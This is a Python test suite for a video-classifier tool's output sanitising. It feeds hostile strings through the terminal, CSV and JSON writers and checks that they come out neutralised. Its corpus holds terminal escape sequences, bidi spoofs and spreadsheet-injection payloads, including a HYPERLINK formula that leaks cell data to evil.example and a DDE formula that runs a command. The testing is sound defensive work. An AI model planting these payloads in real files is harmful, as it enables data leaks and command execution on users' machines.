"""Text from outside (file names, labels, server replies) through every medium: terminal, rich, CSV, JSON.

A corpus of hostile strings -- control characters, terminal escape sequences (clear screen, window
title, OSC 8 hyperlinks, C1 CSI), rich markup, bidi overrides, newlines that forge a line, formula
prefixes, bytes that are not UTF-8 -- goes through :mod:`vidclass.text` and the record writers, and
the bytes that come out are checked: no ESC, no forged lines, no live markup, no formula cells, and
JSON that gives every string back exactly.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import unicodedata
from pathlib import Path

import pytest
from rich.console import Console
from synthetic import VIDCLASS, make_tiny_model, solid_frames, tiny_spec, write_video

from vidclass import Classifier
from vidclass.outputs.records import Format, RecordWriter, csv_header, open_output, source_key
from vidclass.results import ErrorResult
from vidclass.text import CSV_FORMULA_STARTS, for_csv, for_json, for_terminal, from_csv, plain

HOSTILE = [
    "\x1b[2J\x1b[Hcleared",  # clear screen, cursor home
    "\x1b]0;pwned\x07title",  # window title
    "\x1b]8;;file:///etc/passwd\x1b\\click me\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x9b31mC1 CSI",  # one-character CSI (C1)
    "ok.mp4\nvidclass: forged.mp4: no such file",  # a second, forged line
    "carriage\rreturn",
    "bell\x07 nul\x00 del\x7f backspace\x08",
    "\u202egpj.exe",  # right-to-left override: shows as exe.jpg
    "\u2066isolate\u2069 \u200fmark \u2028line separator",
    "[red]markup[/red] [link=file:///etc/passwd]link[/link] [/]",
    ":smiley: :pile_of_poo:",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB first",
    "\r=CR first",
    "\uff1dfullwidth equals",
    "'=quoted already",
    "caf\udce9 \udcff bytes",  # os.fsdecode of b"caf\xe9 \xff": not UTF-8
    "vid\u00e9o \u65e5\u672c \U0001f3ac",  # harmless non-ASCII stays as it is
]

CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]")


@pytest.mark.parametrize("text", HOSTILE)
def test_for_terminal_leaves_nothing_a_terminal_obeys(text: str) -> None:
    shown = for_terminal(text)
    assert not CONTROLS.search(shown), shown
    assert shown.isprintable() or all(c.isprintable() or c == " " for c in shown)
    assert for_terminal(shown) == shown  # nothing left to make visible
    shown.encode("utf-8")  # strict: lone surrogates are escapes by now


def test_for_terminal_notation() -> None:
    assert for_terminal("a\x1b[2Jb\n\t\r\x00\x7f\x9b") == "a\\x1b[2Jb\\n\\t\\r\\x00\\x7f\\x9b"
    assert for_terminal("\u202eexe") == "\\u202eexe"
    assert for_terminal(os.fsdecode(b"caf\xe9")) == "caf\\xe9"  # the byte, as ls -b shows it
    assert for_terminal("vid\u00e9o \u65e5\u672c \U0001f3ac [b]x[/b]") == "vid\u00e9o \u65e5\u672c \U0001f3ac [b]x[/b]"
    assert for_terminal(ValueError("bad\nthing")) == "bad\\nthing"


def _rendered(*texts: str, style: str | None = None) -> str:
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system="truecolor", width=400, emoji=True)
    for text in texts:
        console.print(plain(text, style))
    return out.getvalue()


def test_plain_prints_no_escape_no_markup_one_line_each() -> None:
    out = _rendered(*HOSTILE)
    assert "\x1b" not in out and "\x9b" not in out  # no style given: rich adds no escape either
    assert out.count("\n") == len(HOSTILE)  # one record, one line
    assert "[red]markup[/red]" in out and "[link=file:///etc/passwd]link[/link]" in out  # literal
    assert ":smiley:" in out  # no emoji code replaced either


def test_plain_with_a_style_only_has_rich_own_colour_codes() -> None:
    out = _rendered(*HOSTILE, style="red")
    assert "\x1b" not in re.sub(r"\x1b\[[0-9;]*m", "", out)


@pytest.mark.parametrize("text", HOSTILE)
def test_for_csv_neutralises_formulas_reversibly(text: str) -> None:
    cell = for_csv(text)
    assert not CONTROLS.search(cell)
    assert not cell.startswith(CSV_FORMULA_STARTS) or cell.startswith("'")
    assert from_csv(cell) == for_terminal(text)


def test_for_csv_rule() -> None:
    assert [for_csv(c) for c in ("=1+1", "+1", "-rf.mp4", "@x", "\tx", "'x", "a=b", "clip.mp4")] == [
        "'=1+1", "'+1", "'-rf.mp4", "'@x", "\\tx", "''x", "a=b", "clip.mp4"  # TAB is visible: no formula
    ]


def test_for_json_is_exact_valid_utf8_and_terminal_safe() -> None:
    text = for_json({"s": HOSTILE, "n": -0.5})
    data = text.encode("utf-8")  # strict
    assert b"\x1b" not in data and b"\n" not in data and not CONTROLS.search(text)
    assert json.loads(data) == {"s": HOSTILE, "n": -0.5}  # every string back, surrogates included
    with pytest.raises(ValueError):
        for_json({"score": float("nan")})  # not JSON


# -- the record writers ------------------------------------------------------------------------------


def _check_csv_bytes(data: bytes, records: int, top_k: int) -> list[list[str]]:
    """Whatever went in: valid UTF-8, no control character, one line a record, no formula cell."""
    text = data.decode("utf-8").removeprefix("\ufeff")
    assert not CONTROLS.search(text.replace("\r\n", ""))
    lines = text.split("\r\n")
    assert lines[-1] == "" and len(lines) - 1 == records + 1  # header + records, no forged line
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == csv_header(top_k) and all(len(row) == len(rows[0]) for row in rows)
    for row in rows[1:]:
        for cell in row:
            try:
                float(cell)
                continue  # a number vidclass wrote (scores, duration)
            except ValueError:
                pass
            assert not cell.startswith(CSV_FORMULA_STARTS) or cell.startswith("'"), cell
    return rows[1:]


def _check_jsonl_bytes(data: bytes, records: int) -> list[dict]:
    assert b"\x1b" not in data and not re.search(rb"\xc2[\x80-\x9f]", data)  # no ESC, no C1
    text = data.decode("utf-8")
    assert not CONTROLS.search(text.replace("\n", ""))
    lines = text.splitlines()
    assert len(lines) == records
    return [json.loads(line) for line in lines]


@pytest.fixture()
def hostile_results(tmp_path: Path) -> list:
    """Real results of the tiny model with hostile labels, for videos with hostile names."""
    labels = ("=HYPERLINK(\"http://evil\")", "\x1b]0;t\x07[red]x[/red]\u202e", "-2+3\nforged,0.9")
    model = make_tiny_model(tmp_path / "hostile.onnx", tiny_spec(labels=labels))
    video = write_video(tmp_path / "v.avi", solid_frames(["red"] * 12), 10)
    classifier = Classifier(model, top_k=3)
    results = []
    for name in HOSTILE[:4]:
        result = classifier.predict(video)
        results.append(type(result)(**{**result.__dict__, "source": name}))
    results += [ErrorResult(name, f"{name}: no such file") for name in HOSTILE]
    return results


@pytest.mark.parametrize("fmt", [Format.csv, Format.jsonl])
def test_records_of_hostile_text(hostile_results: list, fmt: Format) -> None:
    out = io.BytesIO()
    writer = RecordWriter(out, fmt, 3)
    for result in hostile_results:
        writer.write(result)
    if fmt is Format.csv:
        rows = _check_csv_bytes(out.getvalue(), len(hostile_results), 3)
        assert [from_csv(row[0]) for row in rows] == [for_terminal(r.source) for r in hostile_results]
    else:
        records = _check_jsonl_bytes(out.getvalue(), len(hostile_results))
        assert [r["source"] for r in records] == [r.source for r in hostile_results]  # exact
        assert records[0]["top"][0]["label"] == "=HYPERLINK(\"http://evil\")"


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_resume_finds_every_hostile_name(tmp_path: Path, hostile_results: list, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    out = open_output(path, 3)
    for result in hostile_results:
        out.write(result)
    out.close()
    again = open_output(path, 3, resume=True)
    again.close()
    assert again.existing == len(hostile_results) and not again.repaired
    assert {source_key(r.source) for r in hostile_results} == again.done


# -- the command, end to end -------------------------------------------------------------------------


@pytest.mark.subprocess
def test_predict_with_hostile_names_and_labels(tmp_path: Path) -> None:
    """Files named with the corpus, a model labelled with it: stdout and --output carry it safely."""
    labels = ("=cmd|' /C calc'!A0", "\x1b[2J[bold]x[/bold]", "+label\u202e")
    model = make_tiny_model(tmp_path / "m.onnx", tiny_spec(labels=labels))
    video = write_video(tmp_path / "v.avi", solid_frames(["red"] * 12), 10).read_bytes()
    names = []
    for i, text in enumerate(HOSTILE):
        name = os.fsencode(text.replace("/", "_").replace("\0", "0")) + b".%d.avi" % i
        with open(os.path.join(os.fsencode(tmp_path), name), "wb") as f:
            f.write(video)
        names.append(name)
    command = [*VIDCLASS, "predict", "--model", model]
    for mode, output in (("--json", "out.jsonl"), ("--csv", "out.csv")):
        done = subprocess.run(
            [*command, mode, "--output", output, "--", *names], capture_output=True, cwd=tmp_path, timeout=300
        )
        assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr.decode(errors="replace")
        written = (tmp_path / output).read_bytes()
        if mode == "--json":
            records = _check_jsonl_bytes(done.stdout, len(names))
            assert [os.fsencode(r["source"]) for r in records] == names  # exact names back
            assert {r["top"][0]["label"] for r in records} == {labels[0]}
            assert _check_jsonl_bytes(written, len(names)) == records
        else:
            rows = _check_csv_bytes(b"\xef\xbb\xbf" + done.stdout, len(names), 3)
            assert rows == _check_csv_bytes(written, len(names), 3)
            assert {row[1] for row in rows} == {"'" + labels[0]}


def test_unicode_categories_of_the_visible_notation() -> None:
    """Every code point made visible is a control, a format character or a separator; no other."""
    for code in range(0x10000):
        char = chr(code)
        if for_terminal(char) != char:
            assert unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp"), hex(code)
